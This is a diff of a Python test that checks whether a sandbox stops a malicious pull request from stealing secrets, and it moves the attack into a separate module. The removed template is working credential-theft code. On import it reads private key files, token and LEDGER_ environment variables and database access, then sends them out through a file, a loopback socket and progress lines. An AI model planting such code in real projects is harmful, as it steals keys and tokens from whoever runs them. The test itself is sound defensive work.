@@ -5,116 +5,24 @@ gradient-compare's arms) and in ``setup()``, reads every key, the token and the
 database it can find and reports them through a file outside its scratch folder, a
 loopback socket and its own progress lines. After ``ledger qualify --pr 2`` nothing
 secret arrived on any channel, in any receipt or artifact; the same attack without
-the sandbox (``--sandbox none``) does reach them, so the test can fail.
+the sandbox (``--sandbox none``) does reach them, so the test can fail. The attack
+itself is `runners.device_scripts.sandbox_attack`'s, which also runs it on a GPU host.
 """
 
 from __future__ import annotations
 
 import json
 import secrets
-import socket
 import sys
-import threading
 from collections.abc import Iterator
 from pathlib import Path
 
 import git
 import pytest
 
+from runners.device_scripts.sandbox_attack import ATTACK, CLAIMS, Listener, attacking_pr
 from runners.example_repo import make_example_repo
 from tests.ledger.helpers import run
-
-CLAIMS = ("regression.24view-nograd", "cleanup.all-released", "numerics.gradient-compare")
-
-ATTACK = """
-
-# --- what the pull request adds: an attack on whoever runs it ---------------
-import glob as _glob
-import os as _os
-import socket as _socket
-import sys as _sys
-
-_LOOT = {loot!r}
-_DB = {db!r}
-_OUT = {out!r}
-_PORT = {port}
-
-
-def _steal(where):
-    loot = []
-    for pattern in _LOOT:
-        for f in _glob.glob(pattern):
-            try:
-                with open(f, "rb") as fh:
-                    loot.append(fh.read().decode("latin-1"))
-            except OSError:
-                pass
-    loot += [k + "=" + v for k, v in _os.environ.items() if k.startswith("LEDGER_")]
-    loot += [k + "=" + v for k, v in _os.environ.items() if "TOKEN" in k]
-    try:
-        with open(_DB, "r+b"):
-            loot.append("database-writable")
-    except OSError:
-        pass
-    text = "|".join(loot)
-    tag = where + ":" + _os.path.basename(_sys.argv[0] or "python") + ":" + str(_os.getpid())
-    try:
-        with open(_os.path.join(_OUT, tag), "w") as fh:
-            fh.write(text)
-    except OSError:
-        pass
-    try:
-        with _socket.create_connection(("127.0.0.1", _PORT), timeout=2) as s:
-            s.sendall(text.encode())
-    except OSError:
-        pass
-    print(
-        "\\x1eprogress attack " + tag + " stole " + str(len(loot)) + " " + text.replace("\\n", " "),
-        file=_sys.stderr,
-        flush=True,
-    )
-
-
-_steal("import")
-
-
-class _Attacking(MoEWorkload):
-    def setup(self, device, seed):
-        _steal("setup")
-        super().setup(device, seed)
-
-
-def make_workload(**params):
-    return _Attacking(MoEConfig(**params))
-"""
-
-
-class Listener:
-    """A loopback server that keeps whatever reaches it."""
-
-    def __init__(self) -> None:
-        self.sock = socket.socket()
-        self.sock.bind(("127.0.0.1", 0))
-        self.sock.listen(16)
-        self.port: int = self.sock.getsockname()[1]
-        self.received: list[bytes] = []
-        self.thread = threading.Thread(target=self._serve, daemon=True)
-        self.thread.start()
-
-    def _serve(self) -> None:
-        while True:
-            try:
-                conn, _ = self.sock.accept()
-            except OSError:
-                return
-            with conn:
-                chunks = []
-                while data := conn.recv(65536):
-                    chunks.append(data)
-                self.received.append(b"".join(chunks))
-
-    def close(self) -> None:
-        self.sock.close()
 
 
 @pytest.fixture
@@ -122,19 +30,6 @@ def listener() -> Iterator[Listener]:
     lst = Listener()
     yield lst
     lst.close()
-
-
-def _attacking_pr(repo_path: Path, attack: str) -> None:
-    """PR 2: PR 1's head plus the attack at the end of the workload module."""
-    repo = git.Repo(repo_path)
-    repo.git.fetch("origin", "refs/pull/1/head")
-    repo.git.checkout("--detach", "FETCH_HEAD")
-    wl = repo_path / "model" / "workload.py"
-    wl.write_text(wl.read_text() + attack)
-    repo.index.add(["model/workload.py"])
-    sha = repo.index.commit("Faster routing").hexsha
-    repo.git.push("origin", f"{sha}:refs/pull/2/head")
-    repo.git.checkout("main")
 
 
 def test_an_attacking_pull_request_reaches_nothing_and_honest_claims_pass(
@@ -154,7 +49,7 @@ def test_an_attacking_pull_request_reaches_nothing_and_honest_claims_pass(
     out = tmp_path / "exfil"
     out.mkdir()
     loot = [f"{key_dir}/*.pem", str(db), f"{Path.home()}/.config/ledger/keys/*.pem"]
-    _attacking_pr(example, ATTACK.format(loot=loot, db=str(db), out=str(out), port=listener.port))
+    attacking_pr(example, ATTACK.format(loot=loot, db=str(db), out=str(out), port=listener.port))
     pems = [p.read_text() for p in sorted(key_dir.glob("*.pem"))]
     assert len(pems) >= 2  # the runner's key and the ledger's
     # A line from the middle of each private key, the token, the database's header.
